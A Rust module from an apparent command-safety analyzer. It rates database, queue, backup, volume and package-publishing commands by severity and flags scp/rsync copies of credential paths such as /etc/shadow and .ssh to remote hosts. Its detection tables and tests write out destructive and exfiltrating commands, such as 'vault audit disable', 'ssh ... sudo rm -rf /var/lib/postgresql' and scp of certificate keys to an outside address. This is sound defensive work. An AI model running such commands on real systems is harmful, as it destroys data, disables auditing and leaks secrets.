//! Command lines of what keeps data and of what publishes: stores, queues, volumes, backups, registries.
//!
//! A program and one of its words are looked up in one table; the order of words does not matter.

use crate::findings::Severity;
use crate::findings::rule::{self, Rule};
use crate::findings::secret::holds_secret;

/// The rule, how bad it is, and why.
type Weight = (&'static Rule, Severity, &'static str);

/// Programs, words that must all stand among their arguments, and what that does.
type Row = (
    &'static [&'static str],
    &'static [&'static str],
    &'static Rule,
    Severity,
    &'static str,
);

const TABLE: &[Row] = &[
    (
        &["redis-cli", "valkey-cli"],
        &["flushall"],
        &rule::SHELL_DELETES,
        Severity::High,
        "empties a store",
    ),
    (
        &["redis-cli", "valkey-cli"],
        &["flushdb"],
        &rule::SHELL_DELETES,
        Severity::High,
        "empties a store",
    ),
    (
        &["redis-cli", "valkey-cli"],
        &["shutdown"],
        &rule::SHELL_STOPS,
        Severity::Medium,
        "stops a store",
    ),
    (
        &["redis-cli", "valkey-cli"],
        &["config", "set"],
        &rule::SHELL_PERMISSIONS,
        Severity::Medium,
        "changes the settings of a store",
    ),
    (
        &["etcdctl", "consul"],
        &["del"],
        &rule::SHELL_DELETES,
        Severity::High,
        "deletes keys of a store",
    ),
    (
        &["consul", "vault"],
        &["kv", "delete"],
        &rule::SHELL_DELETES,
        Severity::Medium,
        "deletes keys of a store",
    ),
    (
        &["vault"],
        &["kv", "destroy"],
        &rule::SHELL_DELETES,
        Severity::High,
        "destroys a secret",
    ),
    (
        &["vault"],
        &["metadata", "delete"],
        &rule::SHELL_DELETES,
        Severity::High,
        "destroys a secret",
    ),
    (
        &["vault"],
        &["audit", "disable"],
        &rule::SHELL_HIDES,
        Severity::High,
        "stops what records",
    ),
    (
        &["vault"],
        &["secrets", "disable"],
        &rule::SHELL_DELETES,
        Severity::High,
        "deletes all secrets of an engine",
    ),
    (
        &["vault"],
        &["operator", "seal"],
        &rule::SHELL_STOPS,
        Severity::High,
        "shuts the store of secrets",
    ),
    (
        &["rabbitmqctl", "rabbitmqadmin"],
        &["purge_queue"],
        &rule::SHELL_DELETES,
        Severity::High,
        "empties a queue",
    ),
    (
        &["rabbitmqctl", "rabbitmqadmin"],
        &["delete_queue"],
        &rule::SHELL_DELETES,
        Severity::High,
        "deletes a queue",
    ),
    (
        &["rabbitmqctl"],
        &["reset"],
        &rule::SHELL_DELETES,
        Severity::High,
        "empties a broker",
    ),
    (
        &[
            "kafka-topics",
            "kafka-topics.sh",
            "kafka-consumer-groups",
            "kafka-consumer-groups.sh",
        ],
        &["--delete"],
        &rule::SHELL_DELETES,
        Severity::High,
        "deletes a topic or a group's place in it",
    ),
    (
        &["kafka-consumer-groups", "kafka-consumer-groups.sh"],
        &["--reset-offsets", "--execute"],
        &rule::SHELL_STOPS,
        Severity::Medium,
        "moves what a group reads next",
    ),
    (
        &["docker", "podman", "nerdctl"],
        &["volume", "rm"],
        &rule::SHELL_DELETES,
        Severity::Medium,
        "deletes the data of containers",
    ),
    (
        &["docker", "podman", "nerdctl"],
        &["volume", "prune"],
        &rule::SHELL_DELETES,
        Severity::Medium,
        "deletes the data of containers",
    ),
    (
        &["docker", "podman", "nerdctl"],
        &["prune", "--volumes"],
        &rule::SHELL_DELETES,
        Severity::Medium,
        "deletes the data of containers",
    ),
    (
        &["docker", "podman"],
        &["compose", "down", "-v"],
        &rule::SHELL_DELETES,
        Severity::Medium,
        "deletes the data of containers",
    ),
    (
        &["docker", "podman"],
        &["compose", "down", "--volumes"],
        &rule::SHELL_DELETES,
        Severity::Medium,
        "deletes the data of containers",
    ),
    (
        &["zfs", "zpool"],
        &["destroy"],
        &rule::SHELL_DELETES,
        Severity::High,
        "destroys data beyond recovery",
    ),
    (
        &["zfs"],
        &["rollback"],
        &rule::SHELL_DELETES,
        Severity::High,
        "throws away what came since",
    ),
    (
        &["btrfs"],
        &["subvolume", "delete"],
        &rule::SHELL_DELETES,
        Severity::High,
        "deletes a volume",
    ),
    (
        &["rclone"],
        &["purge"],
        &rule::SHELL_DELETES,
        Severity::High,
        "deletes a folder of a store",
    ),
    (
        &["rclone"],
        &["delete"],
        &rule::SHELL_DELETES,
        Severity::High,
        "deletes files of a store",
    ),
    (
        &["rclone"],
        &["sync"],
        &rule::SHELL_DELETES,
        Severity::Medium,
        "deletes what the source does not have",
    ),
    (
        &["restic", "borg", "velero", "barman", "pgbackrest"],
        &["delete"],
        &rule::SHELL_DELETES,
        Severity::High,
        "deletes backups",
    ),
    (
        &["restic"],
        &["forget", "--prune"],
        &rule::SHELL_DELETES,
        Severity::Medium,
        "deletes backups",
    ),
    (
        &["pgbackrest"],
        &["stanza-delete"],
        &rule::SHELL_DELETES,
        Severity::High,
        "deletes backups",
    ),
    (
        &["npm", "pnpm", "yarn"],
        &["publish", "public"],
        &rule::SHELL_OPENS,
        Severity::High,
        "publishes a package for everybody",
    ),
    (
        &["npm", "pnpm", "yarn", "cargo", "twine", "gem", "poetry", "uv"],
        &["publish"],
        &rule::SHELL_OPENS,
        Severity::Medium,
        "publishes a package, which can't be taken back",
    ),
    (
        &["npm"],
        &["unpublish"],
        &rule::SHELL_DELETES,
        Severity::High,
        "takes away a package that others use",
    ),
    (
        &["npm"],
        &["access", "public"],
        &rule::SHELL_OPENS,
        Severity::High,
        "opens a package to everybody",
    ),
    (
        &["twine"],
        &["upload"],
        &rule::SHELL_OPENS,
        Severity::Medium,
        "publishes a package, which can't be taken back",
    ),
    (
        &["gem"],
        &["push"],
        &rule::SHELL_OPENS,
        Severity::Medium,
        "publishes a package, which can't be taken back",
    ),
    (
        &["cargo"],
        &["yank"],
        &rule::SHELL_STOPS,
        Severity::Medium,
        "takes away a package that others use",
    ),
    (
        &["lvremove", "vgremove", "pvremove", "mdadm"],
        &["-f"],
        &rule::SHELL_DELETES,
        Severity::High,
        "destroys a volume",
    ),
    (
        &["dropdb", "mongorestore"],
        &["--drop"],
        &rule::SHELL_DELETES,
        Severity::High,
        "drops what is there before it restores",
    ),
    (
        &["pg_restore"],
        &["--clean"],
        &rule::SHELL_DELETES,
        Severity::High,
        "drops what is there before it restores",
    ),
    (
        &["pg_ctl"],
        &["stop"],
        &rule::SHELL_STOPS,
        Severity::Medium,
        "stops a database",
    ),
    (
        &["kubectl", "oc"],
        &["label", "pod-security.kubernetes.io/enforce=privileged"],
        &rule::SHELL_OPENS,
        Severity::High,
        "lets every pod run in a namespace",
    ),
    (
        &["kubectl", "oc"],
        &["uncordon"],
        &rule::SHELL_REMOTE,
        Severity::Low,
        "lets pods onto a node again",
    ),
];

/// Words of a statement given to a database's client, and why they are told.
const STATEMENTS: &[(&str, Severity, &str)] = &[
    ("drop database", Severity::Critical, "drops a database"),
    ("dropdatabase", Severity::Critical, "drops a database"),
    ("drop table", Severity::High, "drops a table"),
    ("drop schema", Severity::High, "drops a schema"),
    (".drop()", Severity::High, "drops a collection"),
    ("truncate", Severity::High, "empties a table"),
    ("deletemany({})", Severity::High, "empties a collection"),
    (
        "alter system",
        Severity::High,
        "changes the settings of a database",
    ),
];

/// Programs that give statements to a database.
const CLIENTS: &[&str] = &[
    "psql",
    "mysql",
    "mariadb",
    "mongosh",
    "mongo",
    "sqlite3",
    "clickhouse-client",
    "cqlsh",
    "sqlcmd",
];

/// Judges the arguments of one of these programs.
pub(super) fn judge(name: &str, arguments: &[String]) -> Option<Weight> {
    let has = |wanted: &str| arguments.iter().any(|word| word.eq_ignore_ascii_case(wanted));
    let known = TABLE
        .iter()
        .find(|(programs, words, ..)| programs.contains(&name) && words.iter().all(|word| has(word)));
    if let Some((_, _, about, severity, why)) = known {
        return Some((about, *severity, why));
    }
    if matches!(name, "scp" | "rsync" | "sftp" | "rclone") && copies_secrets_out(arguments) {
        return Some((
            &rule::SHELL_SENDS_DATA,
            Severity::High,
            "sends keys or credentials to another machine",
        ));
    }
    let text = arguments.join(" ").to_ascii_lowercase();
    let text = text.split_whitespace().collect::<Vec<_>>().join(" ");
    if !CLIENTS.contains(&name) {
        return None;
    }
    let statement = STATEMENTS.iter().find(|(words, ..)| text.contains(words));
    if let Some((_, severity, why)) = statement {
        return Some((&rule::SHELL_DELETES, *severity, why));
    }
    let changes_all = (text.contains("delete from") || text.contains("update ")) && !text.contains("where");
    changes_all.then_some((
        &rule::SHELL_DELETES,
        Severity::High,
        "changes every row of a table",
    ))
}

/// Says whether files of this machine in which keys lie are copied to another.
fn copies_secrets_out(arguments: &[String]) -> bool {
    const KEPT: &[&str] = &[
        "/etc/letsencrypt",
        "/etc/ssl/private",
        "/etc/shadow",
        "/etc/kubernetes/pki",
        ".ssh/",
        ".gnupg",
        ".aws",
        ".kube",
        "/var/lib/vault",
        "/var/lib/etcd",
    ];
    let words: Vec<&String> = arguments.iter().filter(|word| !word.starts_with('-')).collect();
    let Some((target, sources)) = words.split_last() else {
        return false;
    };
    let secret = |path: &&&String| KEPT.iter().any(|kept| path.contains(kept)) || holds_secret(path);
    target.contains(':')
        && sources
            .iter()
            .filter(|path| !path.contains(':'))
            .any(|path| secret(&path))
}

#[cfg(test)]
mod tests {
    use crate::findings::{Severity, analyze, severity};

    fn level(argv: &[&str]) -> Severity {
        let action = serde_json::json!({ "argv": argv }).to_string();
        severity(&analyze("exec", None, action.as_bytes()))
    }

    #[test]
    fn what_empties_stores_or_publishes_is_told() {
        for argv in [
            &["redis-cli", "-h", "s", "FLUSHALL"][..],
            &["npm", "publish", "--access", "public"],
            &["vault", "audit", "disable", "file"],
            &["psql", "-c", "DROP  TABLE a"],
            &["psql", "-c", "delete from a"],
            &[
                "kubectl",
                "label",
                "ns",
                "a",
                "pod-security.kubernetes.io/enforce=privileged",
            ],
            &["scp", "-r", "/etc/letsencrypt/live", "b@203.0.113.7:/in"],
            &["ssh", "-p", "22", "db-1", "sudo rm -rf /var/lib/postgresql"],
        ] {
            assert!(level(argv) >= Severity::High, "{argv:?}");
        }
        for argv in [
            &["redis-cli", "INFO"][..],
            &["npm", "pack"],
            &["psql", "-c", "select 1"],
            &["psql", "-c", "delete from a where id = 1"],
            &["ssh", "db-1", "uptime"],
            &["scp", "report.pdf", "b@203.0.113.7:/in"],
            &["scp", "b@203.0.113.7:/etc/letsencrypt/live", "."],
        ] {
            assert!(level(argv) <= Severity::Low, "{argv:?}");
        }
    }
}
